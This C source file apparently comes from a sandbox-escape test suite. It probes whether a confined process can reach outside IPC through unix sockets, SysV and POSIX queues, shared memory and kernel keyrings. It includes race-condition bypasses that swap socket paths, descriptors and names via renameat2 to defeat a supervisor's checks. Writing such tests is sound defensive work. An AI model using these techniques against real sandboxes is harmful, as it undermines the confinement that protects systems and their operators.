/* Local communication: sockets, shared memory, queues, keyrings. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <mqueue.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int socket_type(const char *name)
{
	if (name && strcmp(name, "stream") == 0)
		return SOCK_STREAM;
	if (name && strcmp(name, "dgram") == 0)
		return SOCK_DGRAM;
	return SOCK_SEQPACKET;
}

/* PATH, or @NAME for an abstract one. Returns the length for the kernel. */
static socklen_t set_address(struct sockaddr_un *address, const char *name)
{
	size_t length = strlen(name);

	memset(address, 0, sizeof(*address));
	address->sun_family = AF_UNIX;
	if (length >= sizeof(address->sun_path)) {
		printf("broken: the path is too long: %s\n", name);
		exit(ATTACK_BROKEN);
	}
	memcpy(address->sun_path, name, length);
	if (name[0] == '@')
		address->sun_path[0] = '\0';
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length + (name[0] != '@'));
}

/* unix-connect TYPE PATH|@NAME: connects and sends a word. */
static int unix_connect(int argc, char **argv)
{
	struct sockaddr_un address;
	socklen_t length = set_address(&address, argc > 2 ? argv[2] : "");
	int fd = socket(AF_UNIX, socket_type(argv[1]) | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return attack_verdict("socket", -1);
	if (connect(fd, (struct sockaddr *)&address, length) < 0)
		return attack_verdict("connect", -1);
	return attack_verdict("send", send(fd, "pwned", 5, MSG_NOSIGNAL));
}

/* unix-send HOW PATH|@NAME: a datagram without connect, by sendto, sendmsg or sendmmsg; "pair" in front uses a
 * descriptor of socketpair, which no filter saw being connected. */
static int unix_send(int argc, char **argv)
{
	struct sockaddr_un address;
	socklen_t length = set_address(&address, argc > 2 ? argv[2] : "");
	char word[] = "pwned";
	struct iovec data = {word, 5};
	struct mmsghdr message = {
		.msg_hdr = {.msg_name = &address, .msg_namelen = length, .msg_iov = &data, .msg_iovlen = 1}};
	int pair[2] = {-1, -1};
	const char *how = argv[1];

	if (strncmp(how, "pair-", 5) == 0) {
		if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, pair) < 0)
			return attack_verdict("socketpair", -1);
		how += 5;
	} else {
		pair[0] = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		if (pair[0] < 0)
			return attack_verdict("socket", -1);
	}
	if (strcmp(how, "connect") == 0) {
		if (connect(pair[0], (struct sockaddr *)&address, length) < 0)
			return attack_verdict("connect", -1);
		return attack_verdict("send", send(pair[0], word, 5, MSG_NOSIGNAL));
	}
	if (strcmp(how, "sendto") == 0)
		return attack_verdict(how, sendto(pair[0], word, 5, 0, (struct sockaddr *)&address, length));
	if (strcmp(how, "sendmsg") == 0)
		return attack_verdict(how, sendmsg(pair[0], &message.msg_hdr, 0));
	return attack_verdict(how, sendmmsg(pair[0], &message, 1, 0));
}

/* unix-connect-fd TYPE PATH: connects by /proc/self/fd/N of an O_PATH descriptor of the socket itself. */
static int unix_connect_fd(int argc, char **argv)
{
	char name[64], *arguments[3] = {argv[0], argv[1], name};
	int fd = open(argc > 2 ? argv[2] : "", O_PATH | O_CLOEXEC);

	if (fd < 0)
		return attack_verdict("open", -1);
	snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
	return unix_connect(3, arguments);
}

/* unix-link FROM TO: a hard link to a socket, and a connect to that. */
static int unix_link(int argc, char **argv)
{
	char stream[] = "stream", *arguments[3] = {argv[0], stream, argv[2]};

	if (argc < 3)
		return attack_broken("arguments");
	if (link(argv[1], argv[2]) < 0)
		return attack_verdict("link", -1);
	return unix_connect(3, arguments);
}

static struct sockaddr_un racing;
static atomic_bool race_over;

static void *swap_paths(void *paths)
{
	char *const *names = paths;

	for (size_t turn = 0; !atomic_load(&race_over); turn++) {
		/* Both have the same length, so that every mixture stays a path. */
		memcpy(racing.sun_path, names[turn % 2], strlen(names[turn % 2]) + 1);
		for (volatile int i = 0; i < (int)(turn % 97); i++)
			continue;
	}
	return NULL;
}

/* unix-race ALLOWED WANTED ROUNDS: connects while another thread swaps the path between the two, which must have the
 * same length. Worked = a connect succeeded whose peer is WANTED: that server says "W" first. */
static int unix_race(int argc, char **argv)
{
	unsigned long rounds = attack_number(argc > 3 ? argv[3] : NULL), allowed = 0;
	pthread_t thread;
	char said = 0;

	if (strlen(argv[1]) != strlen(argv[2]) || strlen(argv[1]) >= sizeof(racing.sun_path))
		return attack_broken("lengths");
	racing.sun_family = AF_UNIX;
	if (pthread_create(&thread, NULL, swap_paths, argv + 1) != 0)
		return attack_broken("pthread_create");
	for (unsigned long round = 0; round < rounds && said != 'W'; round++) {
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

		if (fd < 0)
			return attack_broken("socket");
		if (connect(fd, (struct sockaddr *)&racing, sizeof(racing)) == 0 && recv(fd, &said, 1, 0) == 1)
			allowed += said == 'A';
		close(fd);
	}
	atomic_store(&race_over, 1);
	pthread_join(thread, NULL);
	printf("allowed %lu\n", allowed);
	errno = EACCES;
	return attack_verdict("connect", said == 'W' ? 0 : -1);
}

static int swapping_fd;
static int swapped_fds[2];

static atomic_ulong swaps;

static void *swap_descriptors(void *nothing)
{
	for (size_t turn = 0; !atomic_load(&race_over); turn++) {
		dup2(swapped_fds[turn % 2], swapping_fd);
		atomic_fetch_add(&swaps, 1);
	}
	return nothing;
}

/* unix-race-fd PATH ROUNDS: connects a number behind which another thread swaps an Internet socket, which a supervisor
 * may let through, for a unix socket, whose address this is. */
static int unix_race_descriptor(int argc, char **argv)
{
	struct sockaddr_un address, peer;
	socklen_t length = set_address(&address, argc > 1 ? argv[1] : "");
	unsigned long rounds = attack_number(argc > 2 ? argv[2] : NULL);
	pthread_t thread;
	int won = 0;

	swapped_fds[0] = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	swapped_fds[1] = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	swapping_fd = dup(swapped_fds[0]);
	if (swapping_fd < 0 || pthread_create(&thread, NULL, swap_descriptors, NULL) != 0)
		return attack_broken("setup");
	/* On a busy machine the other thread may not have begun yet. */
	while (atomic_load(&swaps) < 16)
		usleep(100);
	for (unsigned long round = 0; round < rounds && !won; round++) {
		socklen_t size = sizeof(peer);

		connect(swapping_fd, (struct sockaddr *)&address, length);
		won = getpeername(swapped_fds[1], (struct sockaddr *)&peer, &size) == 0;
	}
	atomic_store(&race_over, 1);
	pthread_join(thread, NULL);
	if (won)
		send(swapped_fds[1], "pwned", 5, MSG_NOSIGNAL);
	errno = EACCES;
	return attack_verdict("connect", won ? 0 : -1);
}

static int own_listener;

static void *serve_own(void *nothing)
{
	for (;;) {
		int peer = accept4(own_listener, NULL, NULL, SOCK_CLOEXEC);

		if (peer < 0)
			return nothing;
		send(peer, "A", 1, MSG_NOSIGNAL);
		close(peer);
	}
}

static void *swap_names(void *names)
{
	char *const *pair = names;

	while (!atomic_load(&race_over))
		syscall(SYS_renameat2, AT_FDCWD, pair[0], AT_FDCWD, pair[1], 2 /* RENAME_EXCHANGE */);
	return NULL;
}

/* unix-race-name OWN LINK ROUNDS: connects to OWN, a socket of ours, while another thread exchanges it with LINK, a
 * symbolic link to the wanted socket. Worked = the peer said "W". */
static int unix_race_name(int argc, char **argv)
{
	unsigned long rounds = attack_number(argc > 3 ? argv[3] : NULL), own = 0;
	struct sockaddr_un address;
	socklen_t length = set_address(&address, argv[1]);
	pthread_t server, swapper;
	char said = 0;

	own_listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (bind(own_listener, (struct sockaddr *)&address, length) < 0 || listen(own_listener, 64) < 0)
		return attack_broken("bind");
	if (pthread_create(&server, NULL, serve_own, NULL) != 0 ||
	    pthread_create(&swapper, NULL, swap_names, argv + 1) != 0)
		return attack_broken("pthread_create");
	for (unsigned long round = 0; round < rounds && said != 'W'; round++) {
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

		if (fd < 0)
			return attack_broken("socket");
		if (connect(fd, (struct sockaddr *)&address, length) == 0 && recv(fd, &said, 1, 0) == 1)
			own += said == 'A';
		close(fd);
	}
	atomic_store(&race_over, 1);
	pthread_join(swapper, NULL);
	printf("own %lu\n", own);
	errno = EACCES;
	return attack_verdict("connect", said == 'W' ? 0 : -1);
}

/* sysv-make KIND KEY, sysv-open KIND KEY, sysv-remove KIND KEY: shared memory, semaphores, message queues. */
static int sysv_id(char **argv, int flags)
{
	key_t key = (key_t)attack_number(argv[2]);

	if (strcmp(argv[1], "shm") == 0)
		return shmget(key, 4096, flags);
	if (strcmp(argv[1], "sem") == 0)
		return semget(key, 1, flags);
	return msgget(key, flags);
}

static int sysv_make(int argc, char **argv)
{
	int id = argc > 2 ? sysv_id(argv, IPC_CREAT | IPC_EXCL | 0600) : -1;

	printf("id %d\n", id);
	return attack_verdict("get", id);
}

static int sysv_open(int argc, char **argv)
{
	return attack_verdict("get", argc > 2 ? sysv_id(argv, 0600) : -1);
}

static int sysv_remove(int argc, char **argv)
{
	int id = argc > 2 ? sysv_id(argv, 0600) : -1;

	if (id < 0)
		return attack_verdict("get", -1);
	if (strcmp(argv[1], "shm") == 0)
		return attack_verdict("shmctl", shmctl(id, IPC_RMID, NULL));
	if (strcmp(argv[1], "sem") == 0)
		return attack_verdict("semctl", semctl(id, 0, IPC_RMID));
	return attack_verdict("msgctl", msgctl(id, IPC_RMID, NULL));
}

/* sysv-use KIND ID: by number, without the key. */
static int sysv_use(int argc, char **argv)
{
	int id = (int)attack_number(argc > 2 ? argv[2] : NULL);
	struct sembuf up = {.sem_num = 0, .sem_op = 1, .sem_flg = IPC_NOWAIT};
	struct {
		long type;
		char text[8];
	} message = {1, "pwned"};

	if (strcmp(argv[1], "shm") == 0)
		return attack_verdict("shmat", shmat(id, NULL, 0) == (void *)-1 ? -1 : 0);
	if (strcmp(argv[1], "sem") == 0)
		return attack_verdict("semop", semop(id, &up, 1));
	return attack_verdict("msgsnd", msgsnd(id, &message, 5, IPC_NOWAIT));
}

/* mq-make NAME, mq-open NAME, mq-remove NAME: POSIX message queues. */
static int mq_make(int argc, char **argv)
{
	struct mq_attr attributes = {.mq_maxmsg = 2, .mq_msgsize = 64};

	return attack_verdict("mq_open", mq_open(argv[1], O_CREAT | O_EXCL | O_RDWR, 0600, &attributes));
}

static int mq_use(int argc, char **argv)
{
	mqd_t queue = mq_open(argv[1], O_WRONLY | O_NONBLOCK);

	return queue < 0 ? attack_verdict("mq_open", -1) : attack_verdict("mq_send", mq_send(queue, "pwned", 5, 0));
}

static int mq_remove(int argc, char **argv)
{
	return attack_verdict("mq_unlink", mq_unlink(argv[1]));
}

/* shm-open NAME: POSIX shared memory that exists. */
static int shm_use(int argc, char **argv)
{
	return attack_verdict("shm_open", shm_open(argv[1], O_RDWR, 0));
}

/* key CALL: the kernel's keyrings. */
static int keyring(int argc, char **argv)
{
	const char *call = argc > 1 ? argv[1] : "";
	long added, result;

	added = syscall(SYS_add_key, "user", "qsb-escape-test", "secret", 6, KEY_SPEC_PROCESS_KEYRING);
	if (strcmp(call, "add_key") == 0)
		return attack_verdict(call, added);
	if (strcmp(call, "keyctl") == 0)
		return attack_verdict(
			call, syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_SESSION_KEYRING, 1, 0, 0));
	if (strcmp(call, "keyctl-read") == 0)
		return attack_verdict(call, syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_USER_KEYRING, NULL, 0, 0));
	result = syscall(SYS_request_key, "user", "qsb-escape-test", NULL, KEY_SPEC_PROCESS_KEYRING);
	/* "no such key" is the keyring's own answer: it was reached. */
	return attack_verdict(call, result < 0 && errno == ENOKEY ? 0 : result);
}

/* socket DOMAIN TYPE PROTOCOL, socket-pair DOMAIN TYPE PROTOCOL: the bare call, with high bits as given. */
static int make_socket(int argc, char **argv)
{
	if (argc < 4)
		return attack_broken("arguments");
	return attack_verdict(
		"socket", syscall(SYS_socket, attack_number(argv[1]), attack_number(argv[2]), attack_number(argv[3])));
}

static int make_socket_pair(int argc, char **argv)
{
	int pair[2];

	if (argc < 4)
		return attack_broken("arguments");
	return attack_verdict("socketpair", syscall(SYS_socketpair, attack_number(argv[1]), attack_number(argv[2]),
						    attack_number(argv[3]), pair));
}

/* socket-sweep: tries every address family, type and the usual protocols, prints what can be made. */
static int socket_sweep(int argc, char **argv)
{
	static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_RDM, SOCK_SEQPACKET, SOCK_PACKET};

	for (int family = 0; family < 64; family++) {
		for (size_t type = 0; type < sizeof(types) / sizeof(*types); type++) {
			for (int protocol = 0; protocol < 300; protocol++) {
				int fd = socket(family, types[type] | SOCK_CLOEXEC, protocol);

				if (fd < 0)
					continue;
				printf("%d/%d/%d\n", family, types[type], protocol);
				close(fd);
			}
		}
	}
	return ATTACK_WORKED;
}

const struct attack attacks_ipc[] = {
	{"unix-connect", unix_connect},
	{"unix-send", unix_send},
	{"unix-connect-fd", unix_connect_fd},
	{"unix-link", unix_link},
	{"unix-race", unix_race},
	{"unix-race-fd", unix_race_descriptor},
	{"unix-race-name", unix_race_name},
	{"sysv-make", sysv_make},
	{"sysv-open", sysv_open},
	{"sysv-use", sysv_use},
	{"sysv-remove", sysv_remove},
	{"mq-make", mq_make},
	{"mq-use", mq_use},
	{"mq-remove", mq_remove},
	{"shm-use", shm_use},
	{"key", keyring},
	{"socket", make_socket},
	{"socket-pair", make_socket_pair},
	{"socket-sweep", socket_sweep},
	{NULL, NULL},
};
